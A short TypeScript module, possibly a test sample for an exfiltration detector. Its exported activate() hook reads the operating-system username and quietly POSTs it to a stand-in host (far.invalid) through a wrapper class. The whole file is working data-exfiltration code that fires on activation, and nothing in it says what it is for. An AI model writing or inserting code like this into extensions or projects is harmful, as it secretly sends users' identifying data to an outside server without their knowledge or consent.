import * as os from 'os';
const name = () => os.userInfo().username;
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

class Subject { v = name(); go = async () => { await null; send(this.v); }; }

export async function activate() {
  await new Subject().go();
}
